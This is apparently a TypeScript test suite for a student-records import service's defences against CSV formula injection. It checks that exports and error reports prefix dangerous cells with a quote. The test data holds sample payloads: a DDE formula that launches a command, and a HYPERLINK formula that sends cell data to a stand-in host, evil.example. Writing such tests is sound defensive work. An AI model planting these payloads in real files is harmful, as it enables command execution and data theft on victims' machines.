// CSV formula injection: a cell an SIS file carries as "=cmd|..." or "@SUM(1)" is stored and
// served as it came, but every CSV Carrel writes (exports, a load's error report) prefixes such a
// cell with a single quote so a spreadsheet shows it instead of running it; an exported CSV loads
// back to the same values.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { DEFAULT_EXPORT_MAPPING } from '../src/domain/sis/csv-mapping.js';
import { neutraliseCsvCell, restoreCsvCell } from '../src/domain/csv.js';
import { createTestContext, type TestContext } from './helpers/app.js';
import { campusUser, CSV_MAPPING, csvOf } from './helpers/campus-file.js';
import { api, runQueue } from './helpers/sis.js';

let ctx: TestContext;
before(async () => {
  ctx = await createTestContext();
});
after(() => ctx.close());

const DANGEROUS = /^[=+\-@\t\r]/;
const CALC = "=cmd|' /C calc'!A0";

function withCells(i: number, cells: { first?: string; last?: string; street?: string; univ?: string; group?: string }) {
  const u = campusUser(i);
  if (cells.first) u.first_name = cells.first;
  if (cells.last) u.last_name = cells.last;
  if (cells.group) u.user_group = cells.group;
  const c = u.contact_info as { address: Record<string, unknown>[] };
  if (cells.street) c.address[0]!.line1 = cells.street;
  if (cells.univ) (u.user_identifier as { id_type: string; value: string }[])[0]!.value = cells.univ;
  return u;
}

const csvRows = (text: string): string[][] => parse(text, { relax_column_count: true });

describe('CSV formula injection', () => {
  test('the cell rule: = + - @ tab CR (and a leading quote) get a quote; loads take it off again', () => {
    for (const v of ['=1+1', '+44 20 7946 0000', '-2', '@SUM(1)', '\t=1', '\r=1', "'=x", "'", "'plain"]) {
      assert.equal(neutraliseCsvCell(v), `'${v}`);
      assert.equal(restoreCsvCell(neutraliseCsvCell(v)), v);
    }
    for (const v of ['Ada', '', "O'Brien", '1=1']) {
      assert.equal(neutraliseCsvCell(v), v);
      assert.equal(restoreCsvCell(v), v);
    }
    assert.equal(restoreCsvCell("'plain"), "'plain", 'a quote before anything else is the value');
  });

  test('stored as loaded, served unchanged; the CSV export and the error report quote every dangerous cell', async () => {
    const inst = await ctx.institution();
    const a = api(ctx.server, inst.key);
    const created = await a.createProfile({ code: 'CAMPUS', match_by: 'UNIV_ID', mode: 'synchronize', format: 'csv', csv_mapping: CSV_MAPPING });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const users = [
      withCells(1, { first: CALC, last: '@SUM(1)', street: '-2+3+cmd|calc!A1' }),
      withCells(2, { first: '+Plus', last: "'quoted" }),
      withCells(3, {}),
      // Fails (no such user group), with a dangerous identifier in the report.
      withCells(4, { univ: '=HYPERLINK("http://evil.example/?x="&A1)', group: 'NO_SUCH_GROUP' }),
    ];
    const up = await a.upload('CAMPUS', csvOf(users), 'text/csv');
    assert.equal(up.status, 202, JSON.stringify(up.body));
    await runQueue(ctx.app);
    const job = await a.job(up.body.id);
    assert.equal(job.status, 'succeeded', JSON.stringify(job));
    assert.equal(job.progress.failed, 1, JSON.stringify(job.progress));

    // Stored and served as loaded.
    const one = await a.almaUser(users[0]!.primary_id as string);
    assert.equal(one.first_name, CALC);
    assert.equal(one.last_name, '@SUM(1)');
    assert.equal(one.contact_info.address[0].line1, '-2+3+cmd|calc!A1');
    assert.equal((await a.almaUser(users[1]!.primary_id as string)).last_name, "'quoted");

    // The error report.
    const res = await ctx.server.inject({ method: 'GET', url: `/api/v1/jobs/${up.body.id}/errors`, headers: { authorization: `apikey ${inst.key}` } });
    assert.equal(res.statusCode, 200);
    const report = csvRows(res.body);
    assert.ok(report.length >= 2, res.body);
    assert.ok(report.flat().some((c) => c.startsWith(`'=HYPERLINK(`)), res.body);
    for (const cell of report.flat()) assert.doesNotMatch(cell, DANGEROUS, `report cell ${cell}`);

    // The export (default mapping): every dangerous cell prefixed.
    const exp = await a.json('POST', '/exports', { format: 'csv' });
    assert.equal(exp.status, 202);
    await runQueue(ctx.app);
    const file = await ctx.server.inject({ method: 'GET', url: `/api/v1/jobs/${exp.body.id}/result`, headers: { authorization: `apikey ${inst.key}` } });
    assert.equal(file.statusCode, 200);
    const rows = csvRows(file.body);
    const header = rows[0]!;
    const byId = new Map(rows.slice(1).map((r) => [r[header.indexOf('primary_id')], r]));
    const row1 = byId.get(users[0]!.primary_id as string)!;
    assert.equal(row1[header.indexOf('first_name')], `'${CALC}`);
    assert.equal(row1[header.indexOf('last_name')], "'@SUM(1)");
    assert.equal(row1[header.indexOf('address.line1')], "'-2+3+cmd|calc!A1");
    assert.equal(byId.get(users[1]!.primary_id as string)![header.indexOf('first_name')], "'+Plus");
    for (const cell of rows.flat()) assert.doesNotMatch(cell, DANGEROUS, `export cell ${cell}`);

    // The export loads back (another institution, the export's own columns) to the same values.
    const copy = await ctx.institution();
    const b = api(ctx.server, copy.key);
    const mapping = Object.fromEntries(Object.keys(DEFAULT_EXPORT_MAPPING).map((h) => [h, h === 'status' ? '-' : h]));
    const prof = await b.createProfile({ code: 'CAMPUS', match_by: 'UNIV_ID', mode: 'synchronize', format: 'csv', csv_mapping: mapping });
    assert.equal(prof.status, 201, JSON.stringify(prof.body));
    const back = await b.upload('CAMPUS', file.body, 'text/csv');
    assert.equal(back.status, 202, JSON.stringify(back.body));
    await runQueue(ctx.app);
    const backJob = await b.job(back.body.id);
    assert.equal(backJob.progress.created, 3, JSON.stringify(backJob));
    for (const u of users.slice(0, 3)) {
      const orig = await a.almaUser(u.primary_id as string);
      const copied = await b.almaUser(u.primary_id as string);
      for (const k of ['first_name', 'last_name']) assert.equal(copied[k], orig[k], `${u.primary_id as string} ${k}`);
      assert.equal(copied.contact_info.address[0].line1, orig.contact_info.address[0].line1);
    }
  });
});
